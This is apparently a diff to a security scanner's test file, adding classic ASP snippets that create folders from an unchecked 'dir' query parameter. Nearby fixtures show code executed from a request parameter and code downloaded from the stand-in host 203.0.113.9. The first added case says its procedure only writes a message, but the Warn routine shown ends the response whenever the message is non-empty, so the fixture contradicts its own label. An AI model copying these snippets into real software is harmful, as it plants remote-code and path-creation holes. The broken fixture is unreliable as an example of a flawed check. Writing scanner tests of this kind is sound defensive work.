@@ -132,6 +132,19 @@ Execute b.Unwrap(Request("p")) %>""",
         CODE,
     ),
     (
+        "checked, but the procedure called only writes a message",
+        """<% d = Request.QueryString("dir")
+If InStr("image,media,file", d) < 1 Then
+  Warn "bad folder"
+End If
+fso.CreateFolder Server.MapPath("/files/" & d)
+Sub Warn(m)
+  If m <> "" Then Response.End
+  Response.Write m
+End Sub %>""",
+        FILE,
+    ),
+    (
         "downloaded code",
         """<% Set h = Server.CreateObject("MSXML2.ServerXMLHTTP.6.0")
 h.Open "GET", "http://203.0.113.9/u.txt", False
@@ -170,6 +183,18 @@ If InStr(t, "..") > 0 Then
   Response.End
 End If
 fso.DeleteFile Server.MapPath("/up/" & t) %>""",
+    ),
+    (
+        "rejected by a procedure that ends the response",
+        """<% d = Request.QueryString("dir")
+If InStr("image,media,file", d) < 1 Then
+  Fail "bad folder"
+End If
+fso.CreateFolder Server.MapPath("/files/" & d)
+Sub Fail(m)
+  Response.Write m
+  Response.End
+End Sub %>""",
     ),
     (
         "dots and slashes replaced",
